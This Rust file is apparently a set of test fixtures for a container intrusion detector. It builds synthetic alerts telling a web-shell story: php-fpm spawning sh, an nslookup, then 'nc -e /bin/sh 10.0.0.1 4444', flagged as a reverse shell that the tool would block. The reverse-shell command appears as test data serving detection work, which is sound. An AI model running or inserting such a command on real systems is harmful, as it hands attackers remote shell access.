//! A story for tests.

use portcullis_proto::v1::{Ancestor, Container, Origin, Process, Severity, Signal, Tool, Verdict};
use prost_types::Timestamp;

/// Seconds after the story's begin.
pub fn second(seconds: i64) -> Timestamp {
    Timestamp { seconds: 1_700_000_000 + seconds, nanos: 0 }
}

/// An image that has begun.
pub fn ancestor(pid: u32, exe: &str, argv: &[&str]) -> Ancestor {
    Ancestor {
        pid,
        exe: exe.into(),
        argv: argv.iter().map(|word| (*word).to_owned()).collect(),
        start_time: Some(second(i64::from(pid))),
        ..Ancestor::default()
    }
}

/// A tool run by `sh` below `php-fpm`.
pub fn signal(id: u64, pid: u32, tool: &str, argv: &[&str]) -> Signal {
    Signal {
        id,
        rule: "net_util_in_container".into(),
        severity: Severity::High.into(),
        verdict: Verdict::WouldBlock.into(),
        time: Some(second(30 + i64::try_from(id).unwrap_or_default())),
        tool: Some(Tool { id: tool.into(), ..Tool::default() }),
        container: Some(Container { id: "c1".into(), containerd_namespace: "default".into(), ..Container::default() }),
        process: Some(Process {
            pid,
            filename: format!("/usr/bin/{tool}"),
            exe: format!("/usr/bin/{tool}"),
            argv: argv.iter().map(|word| (*word).to_owned()).collect(),
            start_time: Some(second(i64::from(pid))),
            ..Process::default()
        }),
        lineage: vec![ancestor(8, "/bin/sh", &["sh", "-c", "id"]), ancestor(1, "/usr/sbin/php-fpm", &["php-fpm"])],
        origin: Origin::Container.into(),
        count: 1,
        message: format!("{tool} was executed"),
        ..Signal::default()
    }
}

/// `nslookup`, then `nc`, which executes `sh`.
pub fn web_shell() -> Vec<Signal> {
    let command = ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"];
    let mut shell = signal(3, 44, "sh", &["sh"]);
    shell.rule = "reverse_shell".into();
    shell.lineage.insert(0, ancestor(44, "/usr/bin/nc", &command));
    vec![signal(1, 43, "nslookup", &["nslookup", "x.example"]), signal(2, 44, "nc", &command), shell]
}
